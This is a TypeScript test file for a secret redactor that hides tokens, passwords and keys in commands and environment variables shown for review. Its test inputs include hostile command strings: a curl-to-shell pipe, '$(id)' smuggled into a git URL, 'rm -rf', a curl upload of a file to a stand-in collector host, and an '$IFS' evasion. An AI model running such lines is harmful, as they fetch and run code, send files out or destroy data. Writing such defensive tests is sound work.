import { describe, expect, it } from 'vitest'
import { Redactor } from './index.ts'

const redactor = new Redactor({ DEPLOY_TOKEN: 'hush-hush-hush' }, { OTHER_SECRET: 'quiet-quiet' })

describe('text for review', () => {
  it('has no known secrets, and nothing that can only be a key', () => {
    const key = `ghp_${'a'.repeat(30)}`
    const command = {
      argv: ['curl', '-H', 'Authorization: Bearer abcdefghij', `x/hush-hush-hush/${key}/quiet-quiet`],
    }
    expect(redactor.redactValueForReview(command)).toEqual({
      argv: ['curl', '-H', 'Authorization: Bearer [redacted]', 'x/[redacted]/[redacted]/[redacted]'],
    })
  })

  it.each([
    'password=$(curl<x|sh)',
    'git clone https://me:$(id)@host/x',
    ': -----BEGIN PRIVATE KEY-----; rm -rf build',
    'curl -H "Authorization: Bearer $(cat notes)"',
    'echo bearer\n./deploy-everything',
    'curl -A bearer collector.example.com/upload -d @notes',
    'curl https://sk-aaaaaaaaaaaaaaaaaaaa.com/',
    'curl https://xoxb-1111111111.example/',
  ])('shows every command in %s', (line) => {
    expect(redactor.redactTextForReview(line)).toBe(line)
  })

  it.each([
    'rm -rf build',
    'collector.example.com',
    'collector.example.com/Upload1/aaaaaaaa',
    '192.168.100.7',
    '--upload-file=notes',
    '../../elsewhere',
    'curl$IFS-T$IFS.notes',
  ])('is shown to have %s in it, though a variable that is called like a secret is that too', (value) => {
    const chosen = new Redactor({}, { MY_TOKEN: value })
    chosen.addSecrets([value])
    expect(chosen.redactTextForReview(`run ${value} now`)).toBe(`run ${value} now`)
    expect(chosen.redactEnvironmentForReview({ MY_TOKEN: value })).toEqual({ MY_TOKEN: value })
    expect(chosen.redactText(`run ${value} now`)).toBe('run [redacted] now')
  })

  it.each([
    'correct-horse-battery',
    'p@ss#w0rd!',
    'SG.aBcDeFgH1.iJkLmN0pQ_r',
    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  ])('does not have the secret %s of its variables', (value) => {
    const chosen = new Redactor({}, { MY_TOKEN: value })
    expect(chosen.redactTextForReview(`run ${value} now`)).toBe('run [redacted] now')
    expect(chosen.redactEnvironmentForReview({ MY_TOKEN: value })).toEqual({ MY_TOKEN: '[redacted]' })
  })

  it('is redacted in linear time', () => {
    const line = `${'sk-'.repeat(300_000)}.com`
    expect(redactor.redactTextForReview(line)).toBe(line)
  })

  it('has the names of secret variables, and their values only if they are paths', () => {
    const variables = {
      API_KEY: 'short',
      LESSKEY: './keys',
      NAME: 'a hush-hush-hush b',
      SSH_AUTH_SOCK: '/run/agent',
    }
    expect(redactor.redactEnvironmentForReview(variables)).toEqual({
      API_KEY: '[redacted]',
      LESSKEY: './keys',
      NAME: 'a [redacted] b',
      SSH_AUTH_SOCK: '/run/agent',
    })
  })

  it('has no password of a URL', () => {
    const address = 'postgres://me:correct-horse@db.example.com/base'
    const told = 'postgres://me:[redacted]@db.example.com/base'
    expect(redactor.redactTextForReview(`psql ${address}`)).toBe(`psql ${told}`)
    expect(redactor.redactEnvironmentForReview({ BASE_DSN: address })).toEqual({ BASE_DSN: told })
  })
})

it('has only the names of secret variables outside of a review', () => {
  const variables = { BASE_DSN: 'postgres://db.example.com', PASSWORD: 'two words', NAME: 'value' }
  expect(redactor.redactEnvironment(variables)).toEqual({
    BASE_DSN: '[redacted]',
    PASSWORD: '[redacted]',
    NAME: 'value',
  })
})

describe('stored and shown text', () => {
  const body = 'abcdefghijABCDEFGHIJ0123456789abcdefghijABCDEFGHIJ0123456789'
  it.each([
    ['GitLab', `glpat-${body.slice(0, 20)}`],
    ['npm', `npm_${body.slice(0, 36)}`],
    ['PyPI', `pypi-${body}`],
    ['Hugging Face', `hf_${body.slice(0, 34)}`],
    ['Stripe', `sk_live_${body.slice(0, 24)}`],
    ['AWS', `ASIA${'A1B2'.repeat(4)}`],
    ['an AWS session', `IQoJb3JpZ2lu${body}`],
    ['Slack', `xapp-1-${body.slice(0, 20)}`],
    ['Google', `ya29.${body}`],
    ['Azure', `AccountKey=${body}==`],
    ['a JWT', `eyJ${body.slice(0, 20)}.${body.slice(0, 20)}.${body.slice(0, 20)}`],
    ['Vault', `hvs.${body}`],
  ])('has no key of %s in it', (_issuer, key) => {
    expect(redactor.redactText(`before ${key} after`)).toBe('before [redacted] after')
  })

  it('has no password of a user, but keeps numeric ids', () => {
    expect(redactor.redactText('curl -u me:hunter22 x')).toBe('curl -u me:[redacted] x')
    expect(redactor.redactText('Authorization: Basic bWU6aHVudGVyMjI=')).toBe(
      'Authorization: Basic [redacted]',
    )
    expect(redactor.redactText('docker run -u 1000:1000 x')).toBe('docker run -u 1000:1000 x')
    const key = '-----BEGIN PGP PRIVATE KEY BLOCK-----\nabc\n-----END PGP PRIVATE KEY BLOCK-----'
    expect(redactor.redactText(`a ${key} b`)).toBe('a [redacted] b')
  })
})
